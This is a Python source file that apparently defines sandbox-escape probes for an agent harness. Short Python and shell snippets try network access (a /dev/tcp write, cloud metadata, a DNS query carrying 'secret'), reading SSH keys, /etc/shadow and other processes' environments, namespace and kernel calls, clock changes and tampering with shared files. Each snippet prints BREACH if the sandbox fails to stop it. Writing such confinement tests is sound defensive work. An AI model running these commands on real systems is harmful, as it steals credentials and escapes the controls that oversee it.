"""Behaviours that aim at the machine: network, secrets, clock, namespaces, the kernel's doors, what all share."""

from __future__ import annotations

from hostile import bites, family, py, sh

CALL = "import os, socket\nport = int(os.environ['PORT'])\n"
LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
OUT = "    try: s.connect(place); print('BREACH')\n    except TimeoutError: print('BREACH: sent')\n    except OSError as error: print(error)"
SHARED_MEMORY = {"landlock": "/dev/shm is shared, and open to files, because semaphores live there"}
LOOKS = {"landlock": "Landlock knows no right over watches and locks"}
NETWORK = family(
    "network",
    *bites(
        py("TCP to a service of the machine", CALL + "socket.create_connection(('127.0.0.1', port), 2)"),
        py(
            "TCP to every address of the machine",
            CALL
            + "for host in ('localhost', '0.0.0.0', '127.1.2.3', '::1', '::ffff:127.0.0.1'):\n    try: socket.create_connection((host, port), 1)\n    except OSError as error: print(host, error)",
        ),
        py("TCP by a first packet with data", CALL + "socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', port))"),
        py("multipath TCP", CALL + "socket.socket(2, 1, 262).connect(('127.0.0.1', port))"),
        py("UDP to a service of the machine", CALL + "socket.socket(2, 2).sendto(b'x', ('127.0.0.1', port))"),
        sh("the shell's own network", "echo x > /dev/tcp/127.0.0.1/$PORT; echo x > /dev/udp/127.0.0.1/$PORT"),
        py(
            "a unix socket of the machine",
            "import os, socket\nsocket.socket(socket.AF_UNIX).connect(os.environ['SOCKET'])",
        ),
        py(
            "an abstract socket of the machine",
            "import os, socket\nsocket.socket(socket.AF_UNIX).connect('\\0' + os.environ['TOKEN'])",
        ),
        py(
            "a unix socket over /proc",
            "import os, socket\nsocket.socket(socket.AF_UNIX).connect('/proc/self/root' + os.environ['SOCKET'])",
        ),
        py(
            "a unix socket from a pair",
            "import os, socket\none, other = socket.socketpair()\nsocket.socket(socket.AF_UNIX, 1).connect(os.environ['SOCKET'])",
        ),
    ),
    py(
        "an address on the internet",
        "import socket\nfor place in (('192.0.2.1', 443),):\n    s = socket.socket(); s.settimeout(0.3)\n" + OUT,
    ),
    py(
        "the cloud's metadata",
        "import socket\nfor place in (('169.254.169.254', 80),):\n    s = socket.socket(); s.settimeout(0.3)\n" + OUT,
    ),
    py(
        "a question for a name server",
        "import socket\ntry: socket.socket(2, 2).sendto(b'secret', ('192.0.2.53', 53)); print('BREACH: sent')\nexcept OSError as error: print(error)\nsocket.getaddrinfo('secret.example.org', 80); print('BREACH')",
    ),
    py(
        "raw packets",
        "import socket\nfor kind in ((2, 3, 1), (17, 3, 768), (17, 2, 768), (10, 3, 58), (2, 2, 1)):\n    try: socket.socket(*kind); print('BREACH', kind)\n    except OSError as error: print(error)",
    ),
    py(
        "sockets of rare families",
        "import socket\nfor family in (16, 38, 40, 44, 30, 31, 29):\n    for kind in (1, 2, 3, 5):\n        try: socket.socket(family, kind); print('BREACH', family)\n        except OSError: pass",
    ),
    py(
        "a server for others",
        "import os, socket, time\ns = socket.create_server(('0.0.0.0', 0))\nif os.fork() == 0: time.sleep(60)",
    ),
    sh(
        "the network's settings",
        "(: >> /proc/sys/net/ipv4/ip_forward) && echo BREACH; (: >> /etc/resolv.conf) && echo BREACH; (: >> /etc/hosts) && echo BREACH; true",
    ),
)
SECRETS = family(
    "secrets",
    *bites(
        sh("a file outside printed", 'cat "$OUTSIDE/secret.txt"'),
        sh(
            "a file outside copied into its work",
            'cp "$OUTSIDE/secret.txt" src/new/notes.py; cat "$OUTSIDE/secret.txt" >> src/other.py',
        ),
        sh("keys in the person's home", 'cat "$PERSON/.ssh/id_rsa" "$PERSON/.netrc"'),
        sh("the environment of another process", 'tr "\\0" "\\n" < "/proc/$VICTIM/environ"'),
        sh("the environment of one of its threads", 'tr "\\0" "\\n" < "/proc/$VICTIM/task/$VICTIM/environ"'),
        sh("the repository's configuration", 'cat "$REPO/.git/config"; git -C "$REPO" remote -v'),
        sh("the state folder", 'cat "$STATE/state.db"'),
        sh("the home of another attempt", 'cat "$OTHER/desk/report.md" "$WT"/.homes/*/desk/*'),
        sh("what others left in /tmp", 'cat "/tmp/$TOKEN-other" && echo BREACH; true'),
        sh("names of files outside", 'ls "$OUTSIDE" "$PERSON/.ssh" && echo BREACH; true'),
        py(
            "a watch on files outside",
            "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.inotify_add_watch(libc.inotify_init(), os.environ['OUTSIDE'].encode(), 0xfff) >= 0: print('BREACH')",
            open_at=LOOKS,
        ),
    ),
    sh("its own environment", "env; printenv HARNESS_SECRET && echo BREACH; true"),
    sh(
        "password hashes and keys of the machine",
        "for f in /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key /root/.ssh/*; do head -c 1 $f | grep -q . && echo BREACH $f; done 2> /dev/null; true",
    ),
    py(
        "the kernel's keyring",
        LIBC
        + "key = libc.syscall(248, b'user', os.environ['TOKEN'].encode(), b'x', 1, -4)\nprint('BREACH' if key >= 0 or libc.syscall(250, 6, -4, 0, 0, 0) >= 0 else 'refused')",
    ),
    py(
        "descriptors that were left open",
        "import os\nfor fd in range(3, 256):\n    try: name = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError: continue\n    print('BREACH', fd, name)",
    ),
    py(
        "its input written back",
        "import os\nfor act in (lambda: os.write(os.open('/proc/self/fd/0', os.O_RDWR), b'x'), lambda: os.ftruncate(0, 0)):\n    try: act(); print('BREACH')\n    except OSError as error: print(error)",
    ),
    sh(
        "memory, logs and disks of the machine",
        "for f in /dev/mem /dev/kmsg /proc/kcore /dev/vda /dev/sda /var/log/syslog; do head -c 1 $f | grep -q . && echo BREACH $f; done 2> /dev/null; true",
    ),
    sh(
        "the words of other processes' commands",
        'tr "\\0" " " < "/proc/$VICTIM/cmdline" | grep -q sleep && echo BREACH; true',
        open_at={"landlock": "the list of processes is visible"},
    ),
)
CLOCK = family(
    "clock",
    py("the clock set", "import time; time.clock_settime(time.CLOCK_REALTIME, time.time() + 1); print('BREACH')"),
    py(
        "the clock slewed",
        LIBC
        + "t = (ctypes.c_long * 30)(); t[0] = 0x8001; print('BREACH' if libc.adjtimex(t) >= 0 or libc.syscall(305, 0, t) >= 0 else 'refused')",
    ),
    sh("date -s", "date -s '+1 second' > /dev/null && echo BREACH; hwclock -w && echo BREACH; true", fix="last"),
    sh("times in the future on all files", "find . -exec touch -h -d 2099-01-01 {} +"),
    sh("times before all times", "find src -exec touch -h -d 1901-12-14 {} +"),
)
NAMESPACES = family(
    "namespaces",
    sh("a user namespace, and a mount in it", "unshare -Urm sh -c 'mount -t tmpfs none /mnt && echo BREACH'; true"),
    sh(
        "the namespaces of the machine",
        'nsenter -t 1 -m -u -i true && echo BREACH; nsenter -t "$VICTIM" -m -p true && echo BREACH; true',
    ),
    sh("a mount over its own folder", 'mount --bind "$TMPDIR" "$TMPDIR" && { echo BREACH; umount "$TMPDIR"; }; true'),
    py("a chroot", "import os\nos.mkdir('jail')\nos.chroot('jail'); print('BREACH')"),
    py(
        "the new ways to mount",
        LIBC
        + "print(['BREACH' if libc.syscall(n, *a) >= 0 else n for n, a in ((430, (b'tmpfs', 0)), (428, (-100, b'.', 1)), (155, (b'.', b'.')))])",
    ),
    py("another name for the machine", "import socket\nsocket.sethostname(socket.gethostname())\nprint('BREACH')"),
    sh(
        "settings of the kernel",
        "for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /sys/power/state; do (: >> $f) && echo BREACH $f; done 2> /dev/null; true",
    ),
    sh("control groups", 'mkdir "/sys/fs/cgroup/$TOKEN" && { echo BREACH; rmdir "/sys/fs/cgroup/$TOKEN"; }; true'),
    sh(
        "capabilities that matter",
        "held=$((16#$(sed -n 's/^CapEff:\\t//p' /proc/self/status))); [ $((held & ~(1 << 0 | 1 << 1 | 1 << 3 | 1 << 4))) = 0 ] || echo BREACH $held",
    ),
)
KERNEL = family(
    "kernel",
    py(
        "io_uring",
        LIBC + "print('BREACH' if libc.syscall(425, 4, ctypes.create_string_buffer(120)) >= 0 else 'refused')",
    ),
    py(
        "bpf and perf",
        LIBC
        + "b = ctypes.create_string_buffer(120)\nctypes.memset(b, 1, 4)\nprint('BREACH' if libc.syscall(321, 0, b, 72) >= 0 or libc.syscall(298, b, 0, -1, -1, 0) >= 0 else 'refused')",
    ),
    py("userfaultfd", LIBC + "print('BREACH' if libc.syscall(323, 1) >= 0 else 'refused')"),
    py(
        "a file by its handle",
        LIBC + "handle = ctypes.create_string_buffer(136); ctypes.c_uint.from_buffer(handle).value = 128\n"
        "libc.name_to_handle_at(-100, os.environ['OUTSIDE'].encode() + b'/target.txt', handle, ctypes.byref(ctypes.c_int()), 0)\n"
        "print('BREACH' if libc.open_by_handle_at(os.open('.', os.O_RDONLY), handle, os.O_RDWR) >= 0 else 'refused')",
    ),
    py(
        "modules, kexec and swap",
        LIBC
        + "print(['BREACH' if libc.syscall(n, *a) >= 0 else n for n, a in ((313, (-1, b'', 0)), (246, (0, 0, 0, 1 << 30)), (167, (b'/nowhere', 0)), (163, (b'/nowhere',)))])",
    ),
    py(
        "the filter by the other numbers of calls",
        LIBC
        + "print('BREACH' if libc.syscall(0x40000000 + 521, 16, int(os.environ['VICTIM']), 0, 0) >= 0 else 'refused')",
    ),
    *bites(
        py(
            "a weaker confinement for its children",
            LIBC + "libc.prctl(38, 0, 0, 0, 0); libc.prctl(22, 0, 0, 0, 0)\nos.system('echo x > \"$OUTSIDE/new.txt\"')",
        ),
        py(
            "a program from memory",
            "import os\nfd = os.memfd_create('x'); os.write(fd, open('/bin/touch', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['touch', os.environ['OUTSIDE'] + '/new.txt'])",
        ),
        sh("the loader as a program", '/lib64/ld-linux-x86-64.so.2 /bin/touch "$OUTSIDE/new.txt"'),
    ),
    py(
        "higher limits for itself",
        "import resource\nfor limit, value in ((resource.RLIMIT_MEMLOCK, 1 << 40), (resource.RLIMIT_CORE, 1 << 30)):\n    try: resource.setrlimit(limit, (value, value)); print('BREACH', limit)\n    except (OSError, ValueError) as error: print(error)",
    ),
    py(
        "a higher priority for itself",
        "import os\nfor act in (lambda: os.nice(-10), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))):\n    try: act(); print('BREACH')\n    except OSError as error: print(error)",
    ),
    sh(
        "programs with rights of their own",
        'for p in su mount passwd; do command -v $p; done; su -c "touch $OUTSIDE/new.txt" < /dev/null; true',
    ),
    sh("formats that the kernel starts programs for", "(: >> /proc/sys/fs/binfmt_misc/register) && echo BREACH; true"),
)
SHARED = family(
    "shared",
    *bites(
        sh("a file in /tmp", 'echo x > "/tmp/$TOKEN-mine"; echo x > "/var/tmp/$TOKEN-mine"'),
        sh("another's file in /tmp", 'rm -f "/tmp/$TOKEN-other"'),
        sh("a file left in shared memory", 'echo x > "/dev/shm/$TOKEN-mine"', open_at=SHARED_MEMORY),
        sh("another's shared memory changed", 'echo forged > "/dev/shm/$TOKEN-other"', open_at=SHARED_MEMORY),
        sh("another's shared memory removed", 'rm -f "/dev/shm/$TOKEN-other"', open_at=SHARED_MEMORY),
        py(
            "a POSIX semaphore",
            "import ctypes, os\nlibc = ctypes.CDLL(None)\nlibc.sem_open(f'/{os.environ[\"TOKEN\"]}'.encode(), 0o100, 0o600, 1)",
            open_at=SHARED_MEMORY,
        ),
        py("System V memory", LIBC + "libc.shmget(int(os.environ['KEY']) + 1, 4096, 0o1600)"),
        py(
            "another's System V memory",
            LIBC + "found = libc.shmget(int(os.environ['KEY']), 0, 0)\nif found >= 0: libc.shmctl(found, 0, None)",
        ),
        py(
            "System V semaphores and messages",
            LIBC
            + "libc.semget(int(os.environ['KEY']) + 2, 1, 0o1600); libc.msgget(int(os.environ['KEY']) + 3, 0o1600)",
        ),
        py(
            "a POSIX message queue",
            "import ctypes, os\nctypes.CDLL('librt.so.1').mq_open(f'/{os.environ[\"TOKEN\"]}'.encode(), 0o102, 0o600, None)",
        ),
        sh("folders in /run and /var", 'mkdir "/run/$TOKEN" "/var/tmp/$TOKEN"'),
        py(
            "a lock on a file that others need",
            "import fcntl, os\nfcntl.flock(open(os.environ['OUTSIDE'] + '/target.txt'), fcntl.LOCK_EX); print('BREACH')",
        ),
    ),
    sh(
        "the system's programs",
        '(: >> /usr/bin/true) && echo BREACH; (: > "/usr/bin/$TOKEN") && { echo BREACH; rm "/usr/bin/$TOKEN"; }; (: > "/etc/$TOKEN") && { echo BREACH; rm "/etc/$TOKEN"; }; true',
    ),
    sh(
        "modes of the system's programs",
        'chmod "$(stat -c %a /usr/bin/true)" /usr/bin/true && echo BREACH: it could; true',
    ),
    sh(
        "files planted in TMPDIR",
        'echo x > "$TMPDIR/pip.conf"; echo "import os" > "$TMPDIR/sitecustomize.py"; ln -s /usr "$TMPDIR/usr"',
    ),
)
SYSTEM = (*NETWORK, *SECRETS, *CLOCK, *NAMESPACES, *KERNEL, *SHARED)
